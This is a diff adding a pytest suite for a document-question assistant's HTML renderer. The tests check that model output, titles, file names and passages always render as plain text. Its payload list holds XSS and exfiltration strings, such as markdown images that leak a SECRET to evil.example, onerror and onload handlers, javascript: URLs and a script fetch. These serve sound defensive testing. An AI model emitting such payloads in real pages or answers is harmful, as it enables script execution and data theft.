@@ -1,0 +1,351 @@
+"""Whatever a model, a document or a file name says, the page gets text: nothing that loads, submits or runs."""
+
+import re
+from collections.abc import Callable
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+
+from assistant.answer import Answer
+from assistant.catalog import DocumentInfo
+from assistant.chunking import Chunk
+from assistant.grounding import Citation
+from assistant.retrieval import Hit
+from assistant.sync import FileResult
+from ui.render import (
+    answer_html,
+    document_name,
+    documents_html,
+    line_html,
+    panel_html,
+    question_html,
+    results_html,
+    sources_html,
+    status_html,
+)
+
+PAYLOADS = [
+    "![x](http://evil.example/?q=SECRET)",
+    "![x][ref]\n\n[ref]: http://evil.example/?q=SECRET",
+    "![ref]\n\n[ref]: //evil.example/x.png 'title'",
+    "[x](http://evil.example)",
+    "[x](//evil.example/a)",
+    "[x][ref]\n\n[ref]: http://evil.example",
+    "[1]: http://evil.example\n\nsee [1]",
+    "[1](http://evil.example)",
+    "[[1]](http://evil.example)",
+    "[![1](http://evil.example/a.png)](http://evil.example)",
+    "[[1][1]][1]",
+    "[99] and [0] and [1000000] and [-1]",
+    "<http://evil.example/auto>",
+    "<mailto:a@evil.example>",
+    "http://evil.example/bare and www.evil.example",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "<img src=http://evil.example/x.png>",
+    "<img src=x onerror=alert(1)>",
+    "<img srcset='http://evil.example/a 1x, http://evil.example/b 2x'>",
+    "<picture><source srcset=http://evil.example/a><img></picture>",
+    "<video src=http://evil.example/v poster=http://evil.example/p autoplay></video>",
+    "<audio src=http://evil.example/a></audio>",
+    "<svg><image href='http://evil.example/i'/></svg>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<p style='background:url(http://evil.example/bg)'>x</p>",
+    "<style>@import 'http://evil.example/c.css';</style>",
+    "<link rel=stylesheet href=http://evil.example/c.css>",
+    "<base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<form action=http://evil.example><input name=q><button formaction=http://evil.example>go</button></form>",
+    "<iframe src=http://evil.example></iframe>",
+    "<object data=http://evil.example></object><embed src=http://evil.example>",
+    "<script>fetch('http://evil.example')</script>",
+    "<a href='http://evil.example' ping='http://evil.example/p'>x</a>",
+    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    '"><img src=http://evil.example/x>',
+    "'\"><svg/onload=alert(1)>",
+    "</div></section></article><script>alert(1)</script>",
+    "</textarea></title></style></noscript><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
+    "`<img src=x onerror=alert(1)>` and ``` <script>alert(1)</script> ```",
+    "```html\n<script src=http://evil.example></script>\n```",
+    "```mermaid\ngraph TD; A-->B\nclick A 'http://evil.example'\n```",
+    "| a |\n|---|\n| <img src=http://evil.example> ![x](http://evil.example) |",
+    "# <img src=http://evil.example>\n## [x](http://evil.example)",
+    "- ![x](http://evil.example)\n  - <script>alert(1)</script>\n\n> <img src=x>",
+    "$\\href{http://evil.example}{x}$ $$\\includegraphics{http://evil.example}$$ \\(x\\)",
+    "${alert(1)} {{constructor.constructor('alert(1)')()}} {% x %} @children",
+    "a\u202egpj.exe\u202c\u2066b\u2069\u200b\ufeff\x00\x1b[31m\x07\U000e0041",
+    "lone \ud800 surrogate",
+    "w" * 5000,
+    "[" * 500 + "]" * 500,
+    "> " * 300 + "deep",
+    "*" * 1000 + "_" * 1000,
+    "line one\n\nline two\n\n    indented\n\n<div>\n\nnot a block\n\n</div>\t end",
+]
+
+# What our own pages are made of; whatever else shows up came from the text.
+ALLOWED = set(
+    [
+        "a",
+        "article",
+        "b",
+        "blockquote",
+        "br",
+        "button",
+        "code",
+        "details",
+        "div",
+        "em",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "header",
+        "hr",
+        "i",
+        "li",
+        "mark",
+        "ol",
+        "p",
+        "pre",
+        "section",
+        "span",
+        "strong",
+        "summary",
+        "sup",
+        "table",
+        "tbody",
+        "td",
+        "th",
+        "thead",
+        "tr",
+        "ul",
+    ]
+)
+ATTRIBUTES = {
+    "class",
+    "id",
+    "title",
+    "href",
+    "dir",
+    "role",
+    "type",
+    "tabindex",
+    "start",
+    "colspan",
+    "data-turn",
+    "aria-label",
+    "aria-hidden",
+}
+VOID = {"br", "hr"}
+
+
+class Page(HTMLParser):
+    """Reads HTML strictly: elements closed in order, nothing but what we make."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.links: list[str] = []
+        self.text = ""
+        self.open: list[str] = []
+        self.marked: list[str] = []
+        self.feed(html)
+        self.close()
+        assert not self.open
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in ALLOWED
+        values = dict(attrs)
+        assert values.keys() <= ATTRIBUTES, values
+        if "href" in values:
+            assert tag == "a"
+            self.links.append(values["href"] or "")
+        if tag == "button":
+            assert values["type"] == "button"
+        if tag == "mark":
+            self.marked.append("")
+        if tag not in VOID:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag not in VOID:
+            assert self.open.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+        if "mark" in self.open:
+            self.marked[-1] += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"comment: {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError(f"declaration: {decl}")
+
+    def handle_pi(self, data: str) -> None:
+        raise AssertionError(f"instruction: {data}")
+
+    def unknown_decl(self, data: str) -> None:
+        raise AssertionError(f"declaration: {data}")
+
+
+def chunk(text: str = "First sentence. Second one.", title: str = "A title", heading: str = "Part", page: int | None = 3) -> Chunk:
+    """A chunk at character 100 of its document, with two sentences when there is room."""
+    half = len(text) // 2
+    return Chunk("c1", "notes/a.pdf", title, 100, 100 + len(text), text, heading, page, ((0, half), (half, len(text))))
+
+
+def hit(found: Chunk) -> Hit:
+    return Hit(found, 1.0, 0.5, 2.0, 0.6, (0.1, 0.6))
+
+
+def answer(text: str = "It is so [1].", found: Chunk | None = None, **changes: object) -> Answer:
+    found = found or chunk()
+    citation = Citation(1, found, found.start, found.start + max(len(found.text) // 2, 1))
+    base = Answer("Why?", text=text, passages=(hit(found),), citations=(citation,), state="done", seconds=1.25)
+    return replace(base, **changes)  # type: ignore[arg-type]
+
+
+SINKS: dict[str, Callable[[str], str]] = {
+    "answer": lambda text: answer_html(answer(text), 0),
+    "answer being written": lambda text: answer_html(answer(text, state="writing", seconds=None), 0),
+    "reasoning": lambda text: answer_html(answer("", reasoning=text, state="writing"), 0),
+    "note": lambda text: answer_html(answer(note=text, state="failed"), 0),
+    "question": lambda text: question_html(text, 0) + sources_html(answer(question=text), 0),
+    "cited title": lambda text: answer_html(answer(found=chunk(title=text)), 0) + sources_html(answer(found=chunk(title=text)), 0),
+    "heading": lambda text: sources_html(answer(found=chunk(heading=text)), 0),
+    "file name": lambda text: sources_html(answer(found=replace(chunk(), document_id=text)), 0),
+    "cited passage": lambda text: sources_html(answer(found=chunk(text)), 0),
+    "passage": lambda text: panel_html([answer(found=chunk(text), citations=())]),
+    "folded passage": lambda text: sources_html(answer(found=chunk(f"{'word ' * 200}{text}{' word' * 200}")), 0),
+    "upload result": lambda text: results_html([FileResult(text, True, text), FileResult(text, False, text)], 2, running=True),
+    "document": lambda text: documents_html([DocumentInfo(text, text, 1, 2, 3, text)]),
+    "failed document": lambda text: documents_html([DocumentInfo(text, "", 0, 0, 0, "", text)], wanted=text),
+    "line": lambda text: line_html(text, "problem"),
+    "status": lambda text: status_html(text, f"failed: {text}", 1) + status_html(text, text, 0),
+}
+
+
+@pytest.mark.parametrize("sink", SINKS)
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_a_payload_stays_text_wherever_it_is_shown(sink: str, payload: str) -> None:
+    html = SINKS[sink](payload)
+    page = Page(html)
+    assert all(link == "#source-0-1" for link in page.links)
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]", html)
+    html.encode("utf-8")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_a_message_is_one_line_so_that_gradio_reads_it_as_one_block(payload: str) -> None:
+    for html in (answer_html(answer(payload, reasoning=payload, note=payload), 0), question_html(payload, 0)):
+        assert html.startswith("<div") and html.endswith("</div>")
+        assert "\n" not in html and "\t" not in html
+
+
+@pytest.mark.parametrize(
+    "text", ["[x](http://evil.example/a)", "![x](http://evil.example/a)", "<http://evil.example/a>", "[1](http://evil.example/a)"]
+)
+def test_an_address_is_shown_as_text(text: str) -> None:
+    assert "http://evil.example/a" in Page(answer_html(answer(text), 0)).text
+
+
+def test_marks_of_citations_become_links_and_others_stay_text() -> None:
+    page = Page(answer_html(answer("So [1][1]. Not [2], nor `code [1]`.\n\n```\n[1]\n```"), 4))
+    assert page.links == ["#source-4-1", "#source-4-1"]
+    assert "Not [2], nor code [1]." in page.text
+
+
+def test_a_mark_has_a_name_that_says_more_than_its_number() -> None:
+    html = answer_html(answer(found=chunk(title='Prices & "pace"')), 0)
+    assert 'title="Prices &amp; &quot;pace&quot;"' in html
+    assert "Source 1" in Page(html).text
+
+
+def test_markdown_is_rendered_below_the_page_headings() -> None:
+    html = answer_html(answer("# Top\n\n- **bold** [1]\n\n| a |\n|---|\n| b |\n\n```\nx = 1\n\ny\n```"), 0)
+    assert "<h4>Top</h4>" in html and "<strong>bold</strong>" in html and "<td>b</td>" in html
+    assert "x = 1\n\ny" in Page(html).text
+
+
+def test_states_are_told_in_words() -> None:
+    waiting = answer("", citations=(), state="waiting", ahead=3, seconds=None)
+    assert "Waiting: 3 ahead" in Page(answer_html(waiting, 0)).text
+    assert "Reading the passages" in Page(answer_html(replace(waiting, state="reading", ahead=0), 0)).text
+    assert "Searching" in Page(answer_html(Answer("Why?"), 0)).text
+    assert "Thinking" in Page(answer_html(answer("", reasoning="hm", state="writing", seconds=None), 0)).text
+    stopped = answer("Half", state="writing", seconds=None).stopped()
+    assert "Stopped." in Page(answer_html(stopped, 0)).text
+    assert 'class="answer refused"' in answer_html(answer(refused=True), 0)
+    assert "1.2 s" in Page(answer_html(answer(seconds=1.24), 0)).text
+
+
+def test_the_cited_sentence_is_marked_exactly() -> None:
+    text = "Before it. The sentence that counts. After it."
+    found = chunk(text)
+    citation = Citation(1, found, found.start + 11, found.start + 36)
+    page = Page(sources_html(answer(found=found, citations=(citation,)), 2))
+    assert page.marked == [citation.quote] == ["The sentence that counts."]
+    assert text in page.text and "p. 3" in page.text and "notes/a.pdf" in page.text
+
+
+def test_citations_of_one_passage_share_its_card_and_overlapping_ones_are_joined() -> None:
+    found = chunk("One two three four five six.")
+    spans = [(100, 107), (104, 113), (119, 123)]
+    html = sources_html(answer(found=found, citations=tuple(Citation(1, found, a, b) for a, b in spans)), 0)
+    assert Page(html).marked == ["One two three", "five"]
+    assert html.count('id="source-0-1"') == 1
+
+
+def test_a_long_passage_is_folded_around_its_mark_and_whole_below() -> None:
+    text = f"{'before ' * 150}THE POINT. {'after ' * 150}".strip()
+    at = text.index("THE POINT.")
+    found = chunk(text)
+    html = sources_html(answer(found=found, citations=(Citation(1, found, 100 + at, 110 + at),)), 0)
+    excerpt, whole = html.split('<details class="whole">')
+    assert Page(html).marked == ["THE POINT."] * 2
+    assert len(excerpt) < 1200 and "…before" in excerpt and text.replace("THE POINT.", "<mark>THE POINT.</mark>") in whole
+
+
+def test_cited_passages_come_first_and_each_passage_once() -> None:
+    cited = replace(chunk("The cited one."), id="c2", title="Cited")
+    other = replace(chunk("Another one."), id="c3", title="Other")
+    html = sources_html(answer(found=cited, passages=(hit(other), hit(cited))), 0)
+    assert html.index("Cited</h4>") < html.index("not cited") < html.index("Other</h4>")
+    assert html.count("<article") == 2
+
+
+def test_the_panel_keeps_every_turn() -> None:
+    html = panel_html([answer(), answer("", citations=(), passages=()), answer(found=chunk("New."))])
+    assert 'id="source-0-1"' in html and 'id="source-2-1"' in html and 'data-turn="2"><h2>' in html
+    assert "appear here" in panel_html([])
+
+
+def test_failed_documents_come_first_with_their_reason() -> None:
+    good = DocumentInfo("a.md", "A", 0, 10, 2, "2026-01-02T03:04:05+00:00")
+    bad = DocumentInfo("z.pdf", "", 0, 0, 0, "", "it is encrypted")
+    text = Page(documents_html([good, bad])).text
+    assert text.index("z.pdf") < text.index("a.md")
+    assert "2 documents, 1 not indexed" in text and "Not indexed: it is encrypted" in text
+    assert "a.md" not in Page(documents_html([good, bad], wanted="Z.PDF")).text
+    assert "There are no documents yet" in documents_html([])
+
+
+def test_only_so_many_documents_are_listed() -> None:
+    many = [DocumentInfo(f"{number}.md", "T", 0, 1, 1, "") for number in range(300)]
+    assert documents_html(many).count("<tr>") == 201
+
+
+def test_a_documents_name_is_one_plain_line() -> None:
+    info = DocumentInfo("a\n\u202eb<b>.md", "", 0, 0, 0, "")
+    assert document_name(info) == "a b<b>.md"
